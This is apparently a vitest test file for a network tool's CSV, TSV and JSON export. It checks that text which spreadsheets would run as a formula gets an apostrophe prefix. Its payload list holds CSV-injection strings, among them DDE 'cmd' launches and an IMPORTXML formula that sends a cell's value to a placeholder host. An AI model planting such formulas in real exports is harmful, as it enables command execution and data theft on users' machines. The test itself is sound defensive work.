import { expect } from 'vitest';
import { compileCsv, compileTsv } from '../../src/core/output/delimited.ts';
import { compileJson } from '../../src/core/output/json.ts';
import { ALL_TABLES } from '../../src/core/record/tables/all.ts';
import { csvCells } from '../support/csv.ts';
import { promised } from './promise.ts';

/** What makes a spreadsheet run a cell: OWASP ASVS 5.0, 1.2.10, and the same signs in full width. */
const FORMULAS = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1', '\r=1', '\0=1', '＝1', '＋1', '－1', '＠A1'],
  ...[
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.example";"x")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
  ],
  '=IMPORTXML(CONCAT("http://a.example/?v=",A1),"//a")',
];
/** First characters of cells that nothing runs. */
const HARMLESS = /^(?![=+\-@\t\r\0＝＋－＠])/;
const TEXTS = new Set(['text', 'address', 'time', 'list']);

promised(
  {
    id: 'S4',
    says: 'In CSV no text from outside is a formula: netwatch puts an apostrophe before every text that begins like one, always and without an option. Numbers stay numbers.',
    tested: 'The formulas that OWASP ASVS names, in every text of every record type, as CSV, TSV and NDJSON.',
    notPromised:
      'TSV, the default in a pipe, and JSON keep the text as it is, because programs read them: open CSV, not TSV, in a spreadsheet. --safe-csv is only another name of --csv: CSV is always safe.',
    skipped: null,
    timeoutMs: 60_000,
  },
  async () => {
    let cells = 0;
    for (const table of ALL_TABLES) {
      const fields = Object.keys(table.fields).filter((name) => TEXTS.has(table.fields[name]!.kind));
      const csv = compileCsv(table, fields);
      const tsv = compileTsv(table, fields);
      const json = compileJson(table, fields);
      for (const formula of FORMULAS) {
        const row = Object.fromEntries(
          fields.map((name) => [name, table.fields[name]!.kind === 'list' ? [formula] : formula]),
        );
        const written = fields.length === 0 ? [] : csvCells(csv(row));
        expect(written).toHaveLength(fields.length);
        for (const cell of written) expect(cell).toMatch(HARMLESS);
        expect(tsv(row).split('\t')).toHaveLength(Math.max(1, fields.length));
        expect(JSON.parse(json(row))).toEqual({ type: table.type, ...row });
        cells += written.length;
      }
    }
    const [conn] = ALL_TABLES.filter(({ type }) => type === 'conn');
    expect(compileCsv(conn!, ['rtt_ms'])({ rtt_ms: -1.5 })).toBe('-1.5');
    return `0 of ${cells.toLocaleString('en')} cells run, ${FORMULAS.length} formulas in ${ALL_TABLES.length} record types`;
  },
);
